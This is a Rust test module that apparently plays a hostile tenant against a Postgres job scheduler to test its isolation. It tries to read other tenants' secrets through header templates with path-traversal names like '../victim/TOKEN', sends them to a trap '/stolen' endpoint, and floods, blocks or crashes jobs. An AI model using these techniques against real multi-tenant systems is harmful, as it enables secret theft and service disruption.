use super::by_locks::must;
use super::hood::Neighbour;
use awty_testkit::postgres::Client;
use std::time::Duration;

/// Number of jobs that each round of the attack adds, and the total number of jobs at which the attack stops.
const NAMES: (usize, usize) = (500, 5_000);

pub fn references_to_secrets(n: &Neighbour, client: &mut Client) {
    let (origin, job) = (n.traps.deaf.uri(""), n.job());
    must(
        client,
        &format!(
            "SELECT awty.schedule_many('{origin}', array_agg('/references#' || i), '{job}', after => '0',
                 args => array_agg(jsonb_build_object('headers', jsonb_build_object('X-A', repeat('{{{{secret:TOKEN}}}}', 60000)))))
             FROM generate_series(1, 6) AS i"
        ),
    );
    n.wait(Duration::from_secs(1));
}

pub fn secrets_of_the_victim(n: &Neighbour, client: &mut Client) {
    for name in ["TOKEN", "victim/TOKEN", "../victim/TOKEN", "master-key", "../master-key"] {
        for origin in [n.traps.quick.uri(""), n.target.origin.clone()] {
            let headers = format!("{{\"X\": \"{{{{secret:{name}}}}}\"}}");
            must(client, &format!("SELECT awty_http.send('{origin}/stolen', headers => '{headers}')"));
        }
    }
    n.wait(Duration::from_secs(1));
}

pub fn job_names(n: &Neighbour, client: &mut Client) {
    let (first, last) = (n.round * NAMES.0 + 1, (n.round + 1) * NAMES.0);
    if last <= NAMES.1 {
        must(
            client,
            &format!(
                "SELECT awty.register('http.{}-' || i, heartbeat => '15 s') FROM generate_series({first}, {last}) AS i",
                n.role
            ),
        );
        must(
            client,
            &format!(
                "SELECT awty.allow('http.{}-' || i, 'gateway', 'claim') FROM generate_series({first}, {last}) AS i",
                n.role
            ),
        );
    }
    n.wait(Duration::from_secs(1));
}

pub fn other_spellings(n: &Neighbour, client: &mut Client) {
    let (job, origin) = (n.job(), &n.target.origin);
    let (all, last) = origin.split_at(origin.len() - 1);
    for (name, key) in [(all, format!("{last}/spelled")), ("http://127.0.0.1:1/a", format!("/../{last}/spelled"))] {
        for number in 0..20 {
            must(client, &format!("SELECT awty.schedule('{name}', '{key}#{number}', '{job}', after => '0')"));
        }
    }
    must(
        client,
        &format!(
            "SELECT awty.alter_target('{job}', '{origin}', concurrency => 1, rate => 0.01, blocked_until => 'infinity')"
        ),
    );
    n.wait(Duration::from_millis(500));
}

pub fn implausible_results(n: &Neighbour, client: &mut Client) {
    let (uri, job) = (n.traps.quick.uri("/implausible/"), n.job());
    must(
        client,
        &format!(
            "SELECT awty_http.schedule('{uri}' || i, every => '1 s', jitter => '0') FROM generate_series(1, 20) AS i"
        ),
    );
    let results = [
        r#"{"lateness": 31000000, "duration": 1e300, "status": 99999999999}"#,
        r#"{"lateness": -1e300, "duration": "NaN", "status": "x"}"#,
        r#"{"lateness": "Infinity", "duration": null, "body": [[[]]], "fault": 7}"#,
    ];
    let mut answered = 0;
    // Repeats the claim until 20 checks are answered, because the gateway claims checks of the same job meanwhile.
    for turn in 0.. {
        let (complete, fail) = (results[turn % 3], results[(turn + 1) % 3]);
        let sql = format!(
            "SELECT CASE WHEN l.lease % 2 = 0 THEN awty.complete(l.lease, result => '{complete}')
                 ELSE awty.fail(l.lease, repeat('x', 10000), 'XX000', result => '{fail}') END
             FROM awty.claim('{{{job}}}', 'me', 100) AS l"
        );
        answered += client.query(&sql, &[]).map_or(0, |rows| rows.len());
        if answered >= 20 || !n.wait(Duration::from_millis(20)) {
            return;
        }
    }
}

pub fn slow_runs(n: &Neighbour, client: &mut Client) {
    let role = &n.role;
    if n.round == 0 {
        must(
            client,
            &format!(
                "CREATE FUNCTION {role}.slow(awty.future_job) RETURNS void LANGUAGE plpgsql AS
                     $$ BEGIN IF random() < 0.1 THEN PERFORM pg_terminate_backend(pg_backend_pid()); END IF; PERFORM pg_sleep(60); END $$;
                 SELECT awty.register('{role}_slow', '{role}.slow', timeout => '2 s')"
            ),
        );
    }
    must(
        client,
        &format!("SELECT awty.schedule('slow', i::text, '{role}_slow', after => '0') FROM generate_series(1, 50) AS i"),
    );
    n.wait(Duration::from_secs(2));
}
